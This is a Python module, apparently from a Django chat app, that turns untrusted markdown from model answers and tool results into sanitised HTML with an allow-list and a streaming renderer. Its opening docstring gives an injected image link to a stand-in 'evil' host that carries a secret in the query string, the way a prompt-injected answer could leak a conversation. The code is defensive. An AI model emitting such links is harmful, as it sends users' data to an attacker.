"""The one render function for untrusted text: markdown -> sanitised HTML.

Model answers, tool results, titles and tool descriptions all come through `render_markdown`.
Raw HTML in the markdown is off, and the output passes an nh3 allow-list: no scripts, no event
or `hx-*` attributes, only http(s)/mailto links, and images only from this site (an injected
`![](https://evil/?q=secret)` becomes a plain link that loads nothing).
"""

import html
from functools import lru_cache

import nh3
from django.utils.safestring import SafeString, mark_safe
from markdown_it import MarkdownIt
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

ALLOWED_TAGS = {
    "a", "p", "br", "hr", "strong", "em", "del", "s", "code", "pre", "blockquote",
    "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody",
    "tr", "th", "td", "img", "span", "div", "sup", "sub",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title"},
    "code": {"class"},
    "span": {"class"},
    "div": {"class"},
    "pre": {"class"},
    "th": {"style"},
    "td": {"style"},
    "ol": {"start"},
}
_FORMATTER = HtmlFormatter(nowrap=True, classstyle=True)
_ALLOWED_CLASS_PREFIXES = ("language-", "hl")


def _is_local_url(url: str) -> bool:
    return url.startswith("/") and not url.startswith("//") and "\\" not in url


def _highlight(code: str, lang: str, _attrs: str) -> str:
    if lang:
        try:
            lexer = get_lexer_by_name(lang)
        except ClassNotFound:
            return ""
        # Pygments escapes the code; its spans only carry short token classes.
        return (
            f'<pre class="hl"><code class="language-{html.escape(lang)}">'
            + highlight(code, lexer, _FORMATTER)
            + "</code></pre>\n"
        )
    return ""


def _image(self, tokens, idx, options, env) -> str:
    token = tokens[idx]
    src = token.attrGet("src") or ""
    alt = self.renderInlineAsText(token.children or [], options, env)
    if _is_local_url(src):
        return f'<img src="{html.escape(src)}" alt="{html.escape(alt)}">'
    # A remote image would load by itself and could leak the conversation: show a link instead.
    return f'<a href="{html.escape(src)}">{html.escape(alt or "image")}</a>'


@lru_cache(maxsize=1)
def _markdown() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "highlight": _highlight, "breaks": True})
    md.enable(["table", "strikethrough"])
    md.add_render_rule("image", _image)
    return md


def _attribute_filter(tag: str, attribute: str, value: str) -> str | None:
    if attribute == "class":
        kept = [c for c in value.split() if c.startswith(_ALLOWED_CLASS_PREFIXES) or len(c) <= 3]
        return " ".join(kept) or None
    if attribute == "src":
        return value if _is_local_url(value) else None
    if attribute == "style":
        # Only the alignment markdown tables produce.
        return (
            value if value in {"text-align:left", "text-align:right", "text-align:center"} else None
        )
    return value


@lru_cache(maxsize=1)
def _cleaner() -> nh3.Cleaner:
    # Built once: nh3.clean() converts the allow-lists to its own structures on every call,
    # which cost more than the cleaning itself for a live frame (15 -> 6 us for 500 characters).
    return nh3.Cleaner(
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        attribute_filter=_attribute_filter,
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
        strip_comments=True,
    )


def sanitize_html(raw: str) -> str:
    return _cleaner().clean(raw)


def render_markdown(text: str) -> SafeString:
    """Render untrusted markdown to HTML that is safe to put in a page."""
    if not text:
        return mark_safe("")
    return mark_safe(sanitize_html(_markdown().render(text)))  # noqa: S308 - sanitised above


_FENCES = ("```", "~~~")


class StreamingMarkdown:
    """Renders a growing answer for live frames without re-rendering all of it each time.

    Blocks that are finished (text before the last blank line outside a code fence) are
    rendered once and kept; each frame renders only the unfinished tail. Each piece is
    sanitised on its own, so the joined HTML is as safe as `render_markdown`'s. (A loose list
    split at a blank line shows as two lists until the answer is stored, which renders it whole.)
    """

    def __init__(self) -> None:
        self.done_html: list[str] = []
        self.done_upto = 0  # characters of the text rendered into done_html
        self.scanned = 0  # characters scanned for block boundaries
        self.in_fence = False

    def render(self, text: str) -> SafeString:
        if len(text) < self.done_upto:  # not the text this renderer has seen: start over
            self.__init__()  # type: ignore[misc]
        boundary = self._scan(text)
        if boundary > self.done_upto:
            self.done_html.append(render_markdown(text[self.done_upto : boundary]))
            self.done_upto = boundary
        tail = render_markdown(text[self.done_upto :])
        return mark_safe("".join(self.done_html) + tail)  # noqa: S308 - pieces sanitised

    def _scan(self, text: str) -> int:
        """Advance over complete lines; return the last block boundary outside a fence."""
        boundary = self.done_upto
        end = text.rfind("\n", self.scanned)
        if end < 0:
            return boundary
        position = self.scanned
        for line in text[self.scanned : end].split("\n"):
            stripped = line.strip()
            if stripped.startswith(_FENCES):
                self.in_fence = not self.in_fence
            elif not stripped and not self.in_fence and position > self.done_upto:
                boundary = position
            position += len(line) + 1
        self.scanned = end + 1
        return boundary


def stored_html(html: str) -> SafeString:
    """Mark HTML that `render_markdown` produced earlier (and that was stored) as safe."""
    return mark_safe(html)  # noqa: S308 - only ever output of render_markdown


def render_plain(text: str) -> SafeString:
    """Escape untrusted text that is shown verbatim (tool arguments, raw results)."""
    return mark_safe(f"<pre>{html.escape(text)}</pre>")  # noqa: S308 - escaped
